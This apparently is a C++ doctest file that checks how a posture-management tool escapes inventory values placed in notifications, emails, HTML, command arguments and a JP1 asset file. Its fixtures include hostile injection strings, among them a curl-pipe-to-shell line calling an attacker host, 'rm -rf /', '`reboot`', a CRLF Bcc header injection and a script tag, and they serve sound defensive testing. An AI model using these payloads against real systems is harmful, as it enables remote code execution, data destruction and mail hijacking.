// Hostile inventory values must stay inside the header, HTML body or argument they are put in.
#include <doctest/doctest.h>

#include "action/render.hpp"
#include "action_fixtures.hpp"
#include "posture/name.hpp"

using namespace posture;
using namespace posture::test;

namespace {

constexpr std::string_view kEverything = R"json([{"name": "P", "levels": {"danger": {
  "notify_user": {"title": "PC %host%", "text": "User %user% on %host%\nend",
                  "html": "<p>%host%</p><ul><li>%violations%</li></ul>"},
  "email_admin": {"to": ["secops@example.com"], "subject": "%count% at %level%",
                  "body": "%asset% %host% %user% %group%\n"},
  "command": {"program": "/usr/local/bin/isolate", "args": ["--host", "%host%", "--user=%user%"]},
  "event": {"message": "%host% by %user%"}}}}])json";

const std::vector<std::string> kHostile = {
    "evil\r\nBcc: attacker@example.com",
    "x\"; rm -rf / #",
    "$(curl http://attacker/x | sh)",
    "`reboot`",
    "<script>alert('x')</script>",
    "a;b|c&d>e<f",
    std::string("nul\0byte", 8),
    "caf\xC3",          // truncated UTF-8
    "\xFF\xFE bad",     // invalid bytes
    "\xE2\x80\xA8line separator",
    "tab\tand\x1B[2Jescape",
};

Selection run(const std::string& host, const std::string& user) {
  const ActionPolicySet set = policies(kEverything);
  ClientState s = client("PC-1", host);
  s.user = user;
  s.group = host;
  s.action_policy = "P";
  Judgment j = judged("PC-1", Level::danger, day(0));
  j.items[0].conditions[0].evidence = {{"definition", host}};
  return select_ok(set, {j}, {s});
}

bool has_control(std::string_view s) {
  for (char c : s)
    if (static_cast<unsigned char>(c) < 0x20 || c == 0x7F) return true;
  return false;
}

}  // namespace

TEST_CASE("action: hostile values never add a line to a title, subject or event message") {
  for (const std::string& bad : kHostile) {
    const Selection sel = run(bad, bad);
    CAPTURE(bad);
    const auto n = actions_of<UserNotification>(sel.plan).at(0);
    const auto m = actions_of<AdminEmail>(sel.plan).at(0);
    const auto e = actions_of<MonitoringEvent>(sel.plan).at(0);
    CHECK_FALSE(has_control(n.title));
    CHECK_FALSE(has_control(m.subject));
    CHECK_FALSE(has_control(e.message));
    for (const std::string& t : {n.title, n.text, n.html, m.subject, m.body, e.message})
      CHECK(valid_utf8(t));
    // In the bodies a value may not start a line of its own either.
    CHECK(n.text.find('\n') == n.text.rfind('\n'));
    CHECK(std::count(m.body.begin(), m.body.end(), '\n') == 1);
  }
  const Selection crlf = run(kHostile[0], "u");
  CHECK(actions_of<UserNotification>(crlf.plan)[0].title == "PC evil  Bcc: attacker@example.com");
}

TEST_CASE("action: hostile values are escaped in HTML bodies") {
  const Selection sel = run("<script>alert('x')</script>", "u");
  const std::string html = actions_of<UserNotification>(sel.plan)[0].html;
  CHECK(html.find("<script>") == std::string::npos);
  CHECK(html.starts_with("<p>&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;</p><ul><li>"));
  CHECK(html.find("definition=&lt;script&gt;") != std::string::npos);
  const Selection amp = run("a&b\"c", "u");
  CHECK(actions_of<UserNotification>(amp.plan)[0].html.starts_with("<p>a&amp;b&quot;c</p>"));
}

TEST_CASE("action: a hostile value stays one argument, byte for byte apart from control characters") {
  for (const std::string& bad : kHostile) {
    CAPTURE(bad);
    const Selection sel = run(bad, bad);
    const auto r = actions_of<CommandRun>(sel.plan).at(0);
    REQUIRE(r.argv.size() == 4);
    CHECK(r.argv[0] == "/usr/local/bin/isolate");
    CHECK(r.argv[1] == "--host");
    CHECK(r.argv[2] == action::one_line(bad, 1 << 20));
    CHECK(r.argv[3] == "--user=" + action::one_line(bad, 1 << 20));
    CHECK_FALSE(has_control(r.argv[2]));
  }
  const Selection shell = run("$(curl http://attacker/x | sh)", "`reboot`; id");
  const auto r = actions_of<CommandRun>(shell.plan).at(0);
  CHECK(r.argv[2] == "$(curl http://attacker/x | sh)");
  CHECK(r.argv[3] == "--user=`reboot`; id");
}

TEST_CASE("action: invalid UTF-8 becomes U+FFFD and over-long values are cut on a character") {
  CHECK(action::one_line("caf\xC3", 100) == "caf\xEF\xBF\xBD");
  CHECK(action::one_line("\xFF" "a", 100) == "\xEF\xBF\xBD" "a");
  CHECK(action::one_line("\xE6\x97\xA5\xE6\x9C\xAC", 5) == "\xE6\x97\xA5");  // 日本 → 日

  // A title of 64 bytes: "PC " and 61 bytes of three-byte characters leaves 20 of them.
  std::string wide;
  for (int i = 0; i < 40; ++i) wide += "\xE6\x97\xA5";
  const Selection sel = run(wide, "u");
  const auto n = actions_of<UserNotification>(sel.plan)[0];
  CHECK(n.title.size() == 63);
  CHECK(valid_utf8(n.title));

  const std::string huge(10000, 'h');
  const Selection big = run(huge, huge);
  const auto b = actions_of<UserNotification>(big.plan)[0];
  CHECK(b.title.size() == 64);
  CHECK(b.text.size() == 4096);
  const auto m = actions_of<AdminEmail>(big.plan)[0];
  CHECK(m.body.size() == 4096);
  CHECK(actions_of<MonitoringEvent>(big.plan)[0].message.size() == 1024);
}

TEST_CASE("action: an HTML body is never cut inside an entity") {
  const Template t = Template::compile("%host%").value();
  ClientState s = client("PC-1", "&&&&");
  const Judgment j = judged("PC-1", Level::danger, day(0));
  const action::ClientView view{&s, &j, {}};
  const action::RenderScope scope{"P", Level::danger, day(0), {&view, 1}};
  CHECK(action::render_text(t, action::TextKind::html, 12, scope) == "&amp;&amp;");
  CHECK(action::render_text(t, action::TextKind::text, 3, scope) == "&&&");
}

TEST_CASE("action: hostile values stay inside their field of the JP1 asset information file") {
  const ActionPolicySet set = policies(R"([{"name": "P", "levels": {"danger": {
      "command": {"program": "/x", "preset": "jp1", "pass_asset": true}}}}])");
  ClientState s = client("PC-1", "evil\",\"injected\r\n\"PC-2\"");
  s.action_policy = "P";
  const Selection sel = select_ok(set, {judged("PC-1", Level::danger, day(0))}, {s});
  const std::string content = actions_of<CommandRun>(sel.plan).at(0).files.at(0).content;
  CHECK(std::count(content.begin(), content.end(), '\n') == 1);
  CHECK(content.starts_with("\"PC-1\",\"evil\"\",\"\"injected  \"\"PC-2\"\"\",\"10.20.30.41\""));
}
